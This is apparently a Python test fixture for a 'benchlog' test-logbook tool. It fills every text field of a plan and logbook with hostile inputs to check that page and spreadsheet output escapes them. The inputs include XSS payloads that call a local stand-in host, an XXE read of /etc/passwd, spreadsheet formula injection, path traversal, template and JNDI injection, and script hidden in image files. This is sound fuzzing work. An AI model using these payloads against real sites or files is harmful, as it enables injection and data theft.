"""A plan and a logbook by somebody who means harm: every text field of both holds what may hurt a page or a sheet."""

from __future__ import annotations

import io
import os
import struct
import zlib
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

from helpers.plan_text import table
from helpers.small_logbook import standard_body

from benchlog.capture import Capture, ChannelRecord
from benchlog.clock import ManualClock
from benchlog.finding import Finding, FindingKind
from benchlog.logbook import Logbook
from benchlog.plan import Plan, read_plan
from benchlog.project.release import release_hold
from benchlog.reading import Function, Reading
from benchlog.result import DesignCheck, Limits, Result, Uncertain, Verdict

CALLS_HOME = "http://127.0.0.1:9/hostile"

NASTY = (
    "<script>document.title='RAN';new Image().src='{home}'</script>",
    "\"><img src=x onerror=\"document.title='RAN';fetch('{home}')\">",
    "'><svg/onload=document.title='RAN'><a href='javascript:document.title=1'>x</a>",
    "</title></style></svg><iframe src='{home}'></iframe><link rel=stylesheet href='{home}'>",
    "<style>@import url({home}); body{{background:url({home})}}</style>",
    "]]><!--<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    '=HYPERLINK("{home}?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "../../../../tmp/escaped",
    "..\\..\\C:\\escaped:stream",
    "\u202eexe.gpj\u2066\u200f",
    "a\x00b\x07c\x1b[31md\x7f\u2028e\r\nf\x9b2J",
    "{{{{ 7*7 }}}}{{% for x in y %}}${{jndi}}`id`",
    "$\\frac{{1}}{{$\\input{{/etc/passwd}}$",
    "long " * 200_000,
)
HUGE = (1.7e308, -1.7e308, 5e-324, 1e300, 0.0)


def texts(home: str = CALLS_HOME) -> Iterator[str]:
    """Nasty texts, over and over."""
    return cycle(text.format(home=home) if "{" in text else text for text in NASTY)


def hostile_plan(folder: Path, bad: Iterator[str]) -> Plan:
    """A plan that is read, whatever is in its texts; names that others refer to are short but no better."""
    tag, check, hold = "<b onclick=x>T1</b>", "<i>C1</i>&'\"", "</p>H1"
    parts = [
        table("project", name=next(bad), mains="230 V", note=next(bad)).replace("[[", "[").replace("]]", "]", 1),
        table(
            "part", tag=tag, name=next(bad), state=next(bad), supplier=next(bad), lot=next(bad),
            stored_energy=next(bad), note=next(bad),
        ),
        table(
            "check", id=check, kind="list", part=tag, title=next(bad), state=next(bad), caution=next(bad),
            item=[
                {"take": "question", "name": next(bad), "question": next(bad), "hookup": next(bad)},
                {
                    "take": "reading", "name": "<u>volts</u>", "function": "V~", "limits": {"high": "1e300 V"},
                    "hookup": next(bad), "meter": next(bad),
                },
            ],
        ),
        table(
            "check", id="=C2", kind="supply", part=tag, title=next(bad), hookup=next(bad), caution=next(bad),
            nameplate="24 V ac 40 VA",
        ),
        *(table("check", id=f"+C{n}", kind="supply", part=tag, title=next(bad), nameplate="24 V ac") for n in range(3, 9)),
        table("hold", id=hold, step=next(bad), needs=[check], caution=next(bad)),
        table("substitution", part=tag, what=next(bad), reason=next(bad)),
    ]  # fmt: skip
    path = folder / "plan.toml"
    path.write_text("\n".join(parts), encoding="utf-8", newline="")
    return read_plan(path)


def hostile_results(plan: Plan, bad: Iterator[str]) -> list[Result]:
    """Results with every text nasty and numbers at the edge of what a double holds."""
    found = []
    sizes = cycle(HUGE)
    for kind, check in zip(
        ("list", "supply", "turns_ratio", "inductance", "continuity", "rectified"), plan.checks, strict=False
    ):
        names = (
            "no_load_voltage",
            "loaded_voltage",
            "source_resistance",
            "turns_ratio",
            "inductance",
            next(bad)[:50],
        )
        found.append(
            Result(
                check=kind,
                check_id=check,
                part=plan.checks[check].part,
                part_state=next(bad),
                verdict=Verdict.PASS,
                reason=next(bad),
                quantities={n: Uncertain(next(sizes), 1e-3, 2e-3, "V") for n in names},
                limits={names[0]: Limits(-1e300, 1e300, "V", next(bad))},
                rule=next(bad),
                instruments=(next(bad), next(bad)),
                functions={next(bad)[:60]: next(bad)},
                hookup=next(bad),
                conditions={"load": next(bad), next(bad)[:60]: next(bad)},
                cautions=(next(bad),),
                findings=(Finding(FindingKind.NOTE, next(bad)), Finding(FindingKind.NOTE, next(bad))),
                design_checks=(DesignCheck(next(bad), Verdict.PASS, 1e308, 1e308, "V", next(bad)),),
                details={"items": {next(bad)[:80]: {"verdict": "pass", "reason": next(bad)}}} if kind == "list" else {},
            )
        )  # fmt: skip
    return found


def png(width: int, height: int, data: bytes | None = None) -> bytes:
    """A PNG; with `data` its pixels are these bytes, whatever width and height claim."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    pixels = data if data is not None else zlib.compress((b"\x00" + b"\x40\x80\xc0" * width) * height)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    comment = b"Comment\x00<script>document.title='RAN'</script>"
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"tEXt", comment)
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def hostile_logbook(folder: Path, home: str = CALLS_HOME) -> tuple[Path, Plan]:
    """Make both; returns the logbook's file and the plan."""
    import numpy as np

    bad = texts(home)
    plan = hostile_plan(folder, bad)
    less, more = ("&lt;", "&gt;") if os.name == "nt" else ("<", ">")  # no file's name on Windows has < or >
    path = folder / f"{less}img src=x onerror=alert(1){more}.logbook"
    clock = ManualClock(1_800_000_000_000_000_000)
    with Logbook.open(path, clock=clock, project=next(bad)) as book:
        book.begin_session({"plan": next(bad), next(bad)[:50]: next(bad)})
        codes = np.tile(np.arange(-100, 100, dtype=np.int8), 50)
        capture = Capture(
            tuple(ChannelRecord(f"<b>CH{n}</b>$\\frac$", codes, 1e-3, unit="V") for n in (1, 2)),
            1e-6, instrument=next(bad)[:200], settings={"note": next(bad)},
        )  # fmt: skip
        taken = book.append_capture(capture)
        kept = book.append_readings(
            [
                Reading(
                    Function.AC_VOLTS,
                    1.7e308,
                    1e300,
                    next(bad)[:5000],
                    instrument=next(bad)[:200],
                    raw=b"\x00<script>\xff",
                )
                for _ in range(len(NASTY))
            ]
        )
        for result in hostile_results(plan, bad):
            evidence = (f"capture:{taken.seq}", f"readings:{kept.seq}", f"capture:{10**30}", next(bad)[:100])
            book.append_result(_with(result, evidence))
        for _ in range(len(NASTY)):
            book.append("note", {"text": next(bad), "about": next(bad)})
        book.append(
            "standard",
            standard_body(next(bad)[:100], "pass", standard=next(bad), function=next(bad)),
        )
        book.append("recall", {"meter": next(bad), "function": next(bad), "reason": next(bad), "holds": [], "results": [
            {"entry": 4, "check_id": next(bad), "part": next(bad), "class": "stands", "reason": next(bad), "holds": []}
        ]})  # fmt: skip
        for data in (
            png(40, 30),
            png(100_000, 100_000, b"x"),
            b"\xff\xd8\xff<script>document.title='RAN'</script>",
            b"<svg onload=alert(1)>",
        ):
            book.attach(data, name=next(bad)[:300], about=next(bad))
        book.append("substitution", {"part": next(iter(plan.parts)), "what": next(bad), "reason": next(bad)})
        release_hold(
            plan,
            book,
            next(iter(plan.holds)),
            clock.utc_ns(),
            concession=f"two words {next(bad)}",
            by=next(bad),
        )
        deep: Any = next(bad)
        for _ in range(28):
            deep = {"<b>": [deep]}
        book.append("note", {"text": "deep", "deep": deep})
        book.end_session({"left": next(bad), "next": next(bad)})
    return path, plan


def _with(result: Result, evidence: tuple[str, ...]) -> Result:
    import msgspec

    return msgspec.structs.replace(result, evidence=evidence)


def photo(size: tuple[int, int] = (1600, 1200)) -> bytes:
    """A JPEG with a place and a comment of its own."""
    from PIL import Image

    out = io.BytesIO()
    image = Image.new("RGB", size, (200, 120, 40))
    exif = Image.Exif()
    exif[0x010E] = "taken at home, 48.1 north"
    image.save(out, "JPEG", exif=exif, comment=b"secret comment")
    return out.getvalue()
